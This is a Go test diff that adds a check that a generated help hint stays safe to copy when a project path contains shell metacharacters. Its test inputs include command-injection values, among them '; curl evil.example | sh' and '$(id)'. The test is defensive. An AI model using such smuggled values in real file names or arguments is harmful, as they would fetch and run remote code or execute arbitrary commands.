@@ -3,6 +3,7 @@ package book
 import (
 	"bytes"
 	"encoding/binary"
+	"errors"
 	"strings"
 	"testing"
 	"time"
@@ -156,5 +157,17 @@ func TestDecodeClears(t *testing.T) {
 	}
 	if n := binary.BigEndian.Uint32(plain[len(magic):]); int(n) >= len(plain) || bytes.Contains(plain, []byte("value of b")) {
 		t.Errorf("%d of %d", n, len(plain))
+	}
+}
+
+// TestHintIsNoShell: what a person copies from a hint does nothing but what it says, whatever the project is called.
+func TestHintIsNoShell(t *testing.T) {
+	for project, want := range map[string]string{
+		"/home/me/shop": " --project /home/me/shop makes one", "/home/me/x; curl evil.example | sh": " --project . makes one", "/p/$(id)": " --project . makes one", "/p/a\nb": " --project . makes one", "": " HOST makes one",
+	} {
+		var p *secret.Problem
+		if err := (&Entry{Name: "a"}).Usable(Who{Project: project}, time.Now()); !errors.As(err, &p) || !strings.HasSuffix(p.Help, want) {
+			t.Errorf("%q: %v", project, p)
+		}
 	}
 }
